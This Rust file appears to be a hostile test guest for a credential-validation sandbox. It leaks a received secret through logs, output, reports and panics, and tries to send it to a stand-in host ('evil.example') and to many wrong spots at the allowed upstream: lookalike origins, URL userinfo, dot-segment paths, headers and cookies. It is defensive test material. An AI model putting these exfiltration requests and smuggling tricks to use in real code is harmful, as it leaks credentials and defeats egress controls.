//! Gives away all that it was given, every way there is: it logs it, prints it, sends it to an origin that isn't granted
//! and to every wrong position at the one that is, then to the right one, and puts the lot, with what came of each attempt,
//! into its report; or, as the field `what` says, into its `failure` or its `panic`.

use claviger_guests::{UPSTREAM, outcome};
use claviger_sdk::http::{self, Request};
use claviger_sdk::{Context, Credential, Failure, Report, Validation, log};

struct Leaker;

claviger_guests::guest!(Leaker, claviger_guests::manifest("leaker"));

impl Validation for Leaker {
    fn validate(context: Context, credential: Credential) -> Result<Report, Failure> {
        let loot = format!("{credential:?} {context:?}");
        for level in [log::debug, log::info, log::warn, log::error] {
            level(&loot);
        }
        println!("{loot}");
        eprintln!("{loot}");
        let mut report = Report {
            account: Some(loot.clone()),
            scopes: vec![loot.clone()],
            ..Report::default()
        };
        for (name, request) in attempts(credential.secret("secret")?) {
            report = report.with_detail(name, outcome(&request.send()));
        }
        match credential.field("what") {
            Some("failure") => Err(Failure {
                details: report.details,
                ..Failure::new(&loot, &loot)
            }),
            Some("panic") => panic!("{loot} {report:?}"),
            _ => Ok(report),
        }
    }
}

/// The last one is allowed; all others are not.
fn attempts(secret: &str) -> Vec<(&'static str, Request)> {
    let allowed = format!("{UPSTREAM}/allowed");
    let get = |path: &str| http::get(format!("{UPSTREAM}{path}"));
    let post = || http::post(allowed.as_str());
    let half = &secret[..secret.len() / 2];
    vec![
        (
            "other-origin-header",
            http::get("https://evil.example/allowed").bearer(secret),
        ),
        (
            "other-origin-query",
            http::get("https://evil.example/allowed").query("key", secret),
        ),
        (
            "other-origin-body",
            http::post("https://evil.example/allowed").json(&[secret]),
        ),
        (
            "longer-origin",
            http::get(format!("{UPSTREAM}.evil.example/allowed")).bearer(secret),
        ),
        (
            "sub-domain",
            http::get("https://a.upstream.example/allowed").bearer(secret),
        ),
        (
            "other-port",
            http::get(format!("{UPSTREAM}:8443/allowed")).bearer(secret),
        ),
        (
            "plain-http",
            http::get("http://upstream.example/allowed").bearer(secret),
        ),
        (
            "host",
            http::get(format!("https://{secret}.upstream.example/allowed")),
        ),
        (
            "user-name",
            http::get(format!("https://{secret}@upstream.example/allowed")),
        ),
        (
            "password",
            http::get(format!("https://user:{secret}@upstream.example/allowed")),
        ),
        ("fragment", get(&format!("/allowed#{secret}"))),
        ("query", get("/allowed").query("key", secret)),
        ("query-name", get("/allowed").query(secret, "value")),
        ("path-segment", get(&format!("/allowed/{secret}"))),
        ("other-path", get("/other").bearer(secret)),
        ("longer-segment", get("/allowed-not").bearer(secret)),
        ("dot-segments", get("/allowed/../other").bearer(secret)),
        (
            "encoded-dot-segments",
            get("/allowed/%2e%2e/other").bearer(secret),
        ),
        (
            "other-method",
            Request::new("PUT", allowed.as_str()).bearer(secret),
        ),
        ("method", Request::new(secret, allowed.as_str())),
        ("other-header", get("/allowed").header("x-key", secret)),
        ("header-name", get("/allowed").header(secret, "value")),
        ("host-header", get("/allowed").header("host", secret)),
        (
            "cookie",
            get("/allowed").header("cookie", format!("key={secret}")),
        ),
        ("basic", get("/allowed").basic("user", secret)),
        ("json", post().json(&[secret])),
        ("form", post().form(&[("key", secret)])),
        (
            "text",
            post().header("content-type", "text/plain").body(secret),
        ),
        (
            "unknown-content-type",
            post()
                .header("content-type", "application/x-own")
                .body(secret),
        ),
        ("no-content-type", post().body(secret)),
        (
            "right-place-and-body",
            post().bearer(secret).json(&[secret]),
        ),
        ("half", get("/allowed").header("x-key", half)),
        (
            "upper-case",
            get("/allowed").header("x-key", secret.to_ascii_uppercase()),
        ),
        ("allowed", get("/allowed").bearer(secret)),
    ]
}
